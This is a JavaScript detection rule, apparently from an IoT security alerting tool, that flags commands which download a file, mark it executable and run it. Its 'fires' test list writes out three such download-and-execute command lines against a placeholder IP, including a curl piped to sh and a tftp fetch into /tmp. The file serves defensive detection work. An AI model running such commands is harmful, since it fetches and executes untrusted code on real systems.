import { commandRule } from "../rule.js";

/** A file is fetched, made executable and started in one go. */
export const downloadedThenRun = commandRule({
  id: "downloaded-then-run",
  alertType: "IoT_DownloadFileThenRun",
  name: "Suspicious file download followed by file run activity",
  severity: "Medium",
  about: "A file is fetched, made executable and started in one go.",
  tactics: ["Execution", "Command and Control"],
  techniques: ["T1105", "T1059.004"],
  witness: ["wget", "curl", "tftp", "ftpget"],
  patterns: [
    /\b(?:wget|curl|tftp|ftpget|fetch)\b.*(?:;|&&|\|\|).*\bchmod\b\s+(?:\+x|[0-7]*[1357][0-7]*)\b.*(?:;|&&).*(?:\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|sh\s)\S*/i,
    /\b(?:curl|wget)\b[^|;]*\|\s*(?:sudo\s+)?(?:\/bin\/)?(?:ba|da|z|a)?sh\b.*/i,
  ],
  did: "downloaded a file and ran it",
  because: "it fetches a program and starts it at once",
  fires: [
    "sh -c wget http://203.0.113.9/a; chmod +x a; ./a",
    "bash -c curl -s http://203.0.113.9/i.sh | sh",
    "sh -c cd /tmp && tftp -g -r x 203.0.113.9 && chmod 777 x && ./x",
  ],
  silent: [
    "curl -O http://updates.example.net/fw.bin",
    "wget -q http://deb.example.net/key.gpg",
    "curl -fsS http://127.0.0.1:9090/metrics",
  ],
});
